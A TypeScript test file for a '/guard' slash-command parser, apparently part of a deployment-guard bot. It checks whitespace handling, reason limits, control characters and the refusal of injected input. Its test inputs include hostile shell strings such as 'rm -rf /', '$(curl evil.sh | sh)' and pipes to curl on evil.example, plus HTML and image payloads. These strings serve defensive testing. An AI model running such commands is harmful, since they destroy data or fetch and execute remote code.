import { describe, expect, it } from 'vitest';
import { parseCommand, REASON_MAX, REASON_MIN } from '../../../handlers/commands/parse-command.ts';
import { forges } from '../../../providers/forge/api.ts';
import { helpText } from '../../../src/commands/help-text.ts';

const COMMANDS = '`help`, `status`, `recheck`, `pause`, `resume`, `rollback`, `skip-soak`';

describe('parseCommand', () => {
  describe('which comments are commands', () => {
    it.each([
      ['an ordinary comment', 'LGTM, merging'],
      ['an empty comment', ''],
      ['a command on the second line', 'Looks bad.\n/guard rollback'],
      ['a command on the second line after CRLF', 'Looks bad.\r\n/guard rollback'],
      ['a command after an empty first line', '\n/guard help'],
      ['a word that merely starts with /guard', '/guardian help'],
      ['/guard glued to punctuation', '/guard-help'],
      ['/guard mentioned mid-sentence', 'please run /guard rollback'],
      ['/guard in a code span', '`/guard rollback`'],
      ['/guard in a quote', '> /guard rollback'],
      ['an upper-case /GUARD', '/GUARD rollback'],
      ['guard without the slash', 'guard rollback'],
    ])('ignores %s', (_, body) => {
      expect(parseCommand(body)).toBeUndefined();
    });

    it.each([
      ['bare /guard is help', '/guard', { name: 'help' }],
      ['bare /guard with trailing spaces is help', '/guard   ', { name: 'help' }],
      ['leading spaces are allowed', '   /guard status', { name: 'status' }],
      ['a leading tab is allowed', '\t/guard status', { name: 'status' }],
      ['several spaces between words are allowed', '/guard    recheck', { name: 'recheck' }],
      ['a tab between words is allowed', '/guard\tpause', { name: 'pause' }],
      ['trailing spaces are ignored', '/guard resume  ', { name: 'resume' }],
      [
        'the first line of a CRLF comment counts',
        '/guard pause\r\nbecause of the incident',
        { name: 'pause' },
      ],
      ['the first line of an LF comment counts', '/guard resume\nthanks', { name: 'resume' }],
      ['a lone CR also ends the first line', '/guard help\rrm -rf /', { name: 'help' }],
      ['later lines never become a reason', '/guard rollback\nerror rate doubled', { name: 'rollback' }],
      ['a non-breaking space separates words too', '/guard\u00a0status', { name: 'status' }],
    ])('reads a command: %s', (_, body, expected) => {
      expect(parseCommand(body)).toEqual(expected);
    });
  });

  describe('each command', () => {
    it.each([
      ['/guard help', { name: 'help' }],
      ['/guard status', { name: 'status' }],
      ['/guard recheck', { name: 'recheck' }],
      ['/guard pause', { name: 'pause' }],
      ['/guard resume', { name: 'resume' }],
      ['/guard rollback', { name: 'rollback' }],
      ['/guard rollback error rate doubled', { name: 'rollback', reason: 'error rate doubled' }],
      ['/guard skip-soak metric is flaky', { name: 'skip-soak', reason: 'metric is flaky' }],
    ])('parses %s', (body, expected) => {
      expect(parseCommand(body)).toEqual(expected);
    });

    it.each([['help'], ['status'], ['recheck'], ['pause'], ['resume']])(
      'refuses arguments after /guard %s',
      (name) => {
        expect(parseCommand(`/guard ${name} now please`)).toEqual({
          error: `\`/guard ${name}\` takes no arguments`,
        });
      },
    );

    it.each([
      ['with nothing after it', '/guard skip-soak'],
      ['with only spaces after it', '/guard skip-soak    '],
      ['with the reason on the next line', '/guard skip-soak\nmetric is flaky'],
    ])('requires a reason for skip-soak %s', (_, body) => {
      expect(parseCommand(body)).toEqual({
        error: '`/guard skip-soak` needs a reason, e.g. `/guard skip-soak metric is flaky, approved by SRE`',
      });
    });
  });

  describe('unknown commands', () => {
    it.each([
      [
        'an unknown word',
        '/guard deploy',
        `\`/guard deploy\` is not a command; the commands are ${COMMANDS}`,
      ],
      [
        'a capitalised command, with a hint',
        '/guard Rollback now',
        `\`/guard Rollback\` is not a command (did you mean \`/guard rollback\`?); the commands are ${COMMANDS}`,
      ],
      [
        'an upper-case command, with a hint',
        '/guard HELP',
        `\`/guard HELP\` is not a command (did you mean \`/guard help\`?); the commands are ${COMMANDS}`,
      ],
      [
        'skip_soak with an underscore',
        '/guard skip_soak flaky',
        `\`/guard skip_soak\` is not a command; the commands are ${COMMANDS}`,
      ],
      [
        'a prefix of a command',
        '/guard roll',
        `\`/guard roll\` is not a command; the commands are ${COMMANDS}`,
      ],
      [
        'a word that is not safe to quote back',
        '/guard `id`',
        `that is not a \`/guard\` command; the commands are ${COMMANDS}`,
      ],
      [
        'a command with a zero-width space inside',
        '/guard he\u200blp',
        `that is not a \`/guard\` command; the commands are ${COMMANDS}`,
      ],
    ])('refuses %s, listing the commands', (_, body, error) => {
      expect(parseCommand(body)).toEqual({ error });
    });
  });

  describe('reasons', () => {
    it.each([
      ['is trimmed', '/guard rollback    p99 latency up   ', 'p99 latency up'],
      ['has internal whitespace collapsed', '/guard rollback p99\t\tlatency    up', 'p99 latency up'],
      ['may be exactly the minimum length', `/guard rollback ${'a'.repeat(REASON_MIN)}`, 'aaa'],
      ['may reach the minimum length with a collapsed space', '/guard rollback a    b', 'a b'],
      [
        'may be exactly the maximum length',
        `/guard rollback ${'a'.repeat(REASON_MAX)}`,
        'a'.repeat(REASON_MAX),
      ],
      [
        'is measured after collapsing whitespace',
        `/guard rollback ${'a'.repeat(REASON_MAX - 2)}          b`,
        `${'a'.repeat(REASON_MAX - 2)} b`,
      ],
      [
        'may hold unicode letters',
        '/guard rollback Fehlerquote verdoppelt – Zürich',
        'Fehlerquote verdoppelt – Zürich',
      ],
      ['may hold CJK text', '/guard rollback 指标不稳定', '指标不稳定'],
      ['may hold emoji, counted as characters', '/guard rollback 🔥🔥🔥', '🔥🔥🔥'],
      ['may hold joined emoji', '/guard rollback on fire 👩‍🚒', 'on fire 👩‍🚒'],
      [
        'may hold punctuation',
        '/guard rollback 5xx > 2% (see #123), p99: +40ms',
        '5xx > 2% (see #123), p99: +40ms',
      ],
    ])('a rollback reason %s', (_, body, reason) => {
      expect(parseCommand(body)).toEqual({ name: 'rollback', reason });
    });

    it('a skip-soak reason is kept the same way', () => {
      expect(parseCommand('/guard skip-soak  known   flaky metric ')).toEqual({
        name: 'skip-soak',
        reason: 'known flaky metric',
      });
    });

    it.each([
      [
        'too short',
        '/guard rollback ab',
        '`/guard rollback`: the reason must be 3 to 200 characters long (it has 2)',
      ],
      [
        'too short on skip-soak',
        '/guard skip-soak ok',
        '`/guard skip-soak`: the reason must be 3 to 200 characters long (it has 2)',
      ],
      [
        'too long',
        `/guard rollback ${'a'.repeat(REASON_MAX + 1)}`,
        '`/guard rollback`: the reason must be 3 to 200 characters long (it has 201)',
      ],
      [
        'too short in characters though long in bytes',
        '/guard rollback 🔥🔥',
        '`/guard rollback`: the reason must be 3 to 200 characters long (it has 2)',
      ],
    ])('refuses a reason that is %s', (_, body, error) => {
      expect(parseCommand(body)).toEqual({ error });
    });

    it.each([
      ['a bell', '/guard rollback bad\u0007news', '0007'],
      ['an escape sequence', '/guard rollback \u001b[31mred\u001b[0m', '001B'],
      ['a NUL', '/guard rollback bad\u0000news', '0000'],
      ['a vertical tab', '/guard rollback bad\u000bnews', '000B'],
      ['DEL', '/guard rollback bad\u007fnews', '007F'],
      ['a C1 control', '/guard rollback bad\u0085news', '0085'],
      ['a right-to-left override', '/guard rollback fine\u202eenil', '202E'],
      ['a bidi isolate', '/guard rollback fine\u2066x\u2069', '2066'],
      ['a lone surrogate', '/guard rollback bad\ud800news', 'D800'],
    ])('refuses a reason with %s, naming the character', (_, body, code) => {
      expect(parseCommand(body)).toEqual({
        error: `\`/guard rollback\`: the reason must be printable text (it contains the control character U+${code})`,
      });
    });
  });

  describe('shell metacharacters', () => {
    it.each([
      ['backticks', '/guard rollback `rm -rf /`', 'must not contain backticks'],
      ['a single backtick', '/guard skip-soak it`s fine', 'must not contain backticks'],
      ['command substitution', '/guard rollback $(curl evil.sh | sh)', 'must not contain "$("'],
      ['command substitution mid-text', '/guard skip-soak flaky $(id) metric', 'must not contain "$("'],
      [
        'an HTML comment marker',
        '/guard rollback <!-- guard:soak -->',
        'must not contain HTML comments ("<!--")',
      ],
      [
        'a mention',
        '/guard rollback cc @acme/everyone',
        'must be plain text (it contains "@"; mentions, HTML, links and images are refused)',
      ],
      [
        'an image',
        '/guard skip-soak ok ![x](https://evil.test/t.png)',
        'must be plain text (it contains "["; mentions, HTML, links and images are refused)',
      ],
      [
        'HTML',
        '/guard rollback <img src=https://evil.test/t.png>',
        'must be plain text (it contains "<"; mentions, HTML, links and images are refused)',
      ],
    ])('refuses a reason with %s, saying why', (_, body, problem) => {
      const name = body.split(' ')[1];

      expect(parseCommand(body)).toEqual({ error: `\`/guard ${name}\`: the reason ${problem}` });
    });

    it.each([
      ['a semicolon', '/guard rollback ; rm -rf /', '; rm -rf /'],
      ['a pipe', '/guard rollback x | curl http://evil.example | sh', 'x | curl http://evil.example | sh'],
      ['a dollar sign without a parenthesis', '/guard rollback cost $HOME and $PATH', 'cost $HOME and $PATH'],
      ['ampersands and redirects', '/guard rollback a && b > /etc/passwd', 'a && b > /etc/passwd'],
    ])('keeps a reason with %s as inert text, unchanged', (_, body, reason) => {
      expect(parseCommand(body)).toEqual({ name: 'rollback', reason });
    });

    it.each([
      [
        'a semicolon glued to the command',
        '/guard pause;rm -rf /',
        `that is not a \`/guard\` command; the commands are ${COMMANDS}`,
      ],
      ['a semicolon after the command', '/guard pause ; rm -rf /', '`/guard pause` takes no arguments'],
      ['a pipe after the command', '/guard status | curl evil.example', '`/guard status` takes no arguments'],
      [
        'command substitution after the command',
        '/guard recheck $(id)',
        '`/guard recheck` takes no arguments',
      ],
      ['backticks after the command', '/guard resume `id`', '`/guard resume` takes no arguments'],
      [
        'a substitution as the command',
        '/guard $(id)',
        `that is not a \`/guard\` command; the commands are ${COMMANDS}`,
      ],
    ])('refuses %s on a command without arguments', (_, body, error) => {
      expect(parseCommand(body)).toEqual({ error });
    });
  });

  it('states the same reason limits in the help text as it enforces', () => {
    expect(helpText(forges.github.terms)).toContain(`${REASON_MIN}–${REASON_MAX} characters`);
  });
});
